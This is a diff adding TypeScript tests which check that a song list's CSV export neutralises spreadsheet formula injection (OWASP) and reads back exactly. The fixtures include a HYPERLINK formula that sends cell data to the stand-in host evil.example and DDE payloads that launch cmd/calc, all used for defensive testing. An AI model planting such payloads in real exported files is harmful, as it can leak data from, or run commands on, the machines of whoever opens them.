@@ -92,3 +92,57 @@ describe("every writer reads back to the same songs", () => {
     );
   });
 });
+
+/** Cells a spreadsheet would run (issue 22, break 4), and cells that only look close to one. */
+const FORMULAS: SongEntry[] = [
+  song({
+    title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    artists: ["=cmd"],
+    videoId: "-aBcDeFgHiJ",
+  }),
+  song({ title: "+cmd|' /C calc'!A0", artists: ["+Band"], album: "@SUM(1+1)" }),
+  song({ title: "@SUM(1+1)*cmd|' /C calc'!A0", artists: ["Band"], album: "-2+3+cmd|' /C calc'!A0" }),
+  song({ title: "-2+3+cmd|' /C calc'!A0", artists: ["Band"] }),
+  song({ title: "-2", artists: ["-M-"] }),
+  song({ title: "'=already a quote and an equals sign", artists: ["''+two quotes"] }),
+  song({ title: "'Til Tuesday", artists: ["'quoted' band"] }),
+  song({ title: "＝ＨＹＰＥＲＬＩＮＫ（）", artists: ["＠全角"], album: "＋１" }),
+  song({ title: "Tab\t=inside, not at the start", artists: ["A = B"] }),
+];
+
+/** The cells as a spreadsheet program sees them: our CSV parsed, quotes taken off, nothing else. */
+function spreadsheetCells(csv: string): string[] {
+  const cells: string[] = [];
+  for (const m of csv.matchAll(/"((?:[^"]|"")*)"|([^,\n]*)/g)) {
+    if (m[0] !== "") cells.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : (m[2] ?? ""));
+  }
+  return cells;
+}
+
+describe("CSV export neutralises spreadsheet formulas (OWASP) and reads back exactly", () => {
+  it("writes no cell that begins with = + - @ (or their full-width forms), each dangerous one quoted", () => {
+    const csv = writeEntries(FORMULAS, "csv");
+    for (const cell of spreadsheetCells(csv)) expect(cell, cell).not.toMatch(/^[=+\-@＝＋－＠\t\r]/);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'=cmd"`);
+    expect(csv).toContain(`"'+cmd|' /C calc'!A0","'+Band","'@SUM(1+1)",`);
+    expect(csv.split("\n")[5]).toBe(`"'-2","'-M-",,,,,`);
+    expect(csv).toContain(`"'-aBcDeFgHiJ"`);
+    // A quote, then a formula character: one more quote, so reading takes back exactly one.
+    expect(csv).toContain(`"''=already a quote and an equals sign","'''+two quotes"`);
+    expect(csv).toContain("'Til Tuesday,'quoted' band,");
+  });
+
+  it("export -> file source gives the same entries, a title beginning with a quote included", () => {
+    const back = roundTrip(FORMULAS, "csv");
+    expect(back.map(compared)).toEqual(FORMULAS.map(compared));
+  });
+
+  it("reads another tool's OWASP-neutralised cells as their text; a lone quote is kept", () => {
+    const csv = "Title,Artist\n\"'=1+1\",\"'-Band\"\n'Tis the season,'\n";
+    const { entries } = readEntries(new TextEncoder().encode(csv), { fileName: "x.csv", strict: true });
+    expect(entries.map((e) => [e.title, e.artists])).toEqual([
+      ["=1+1", ["-Band"]],
+      ["'Tis the season", ["'"]],
+    ]);
+  });
+});
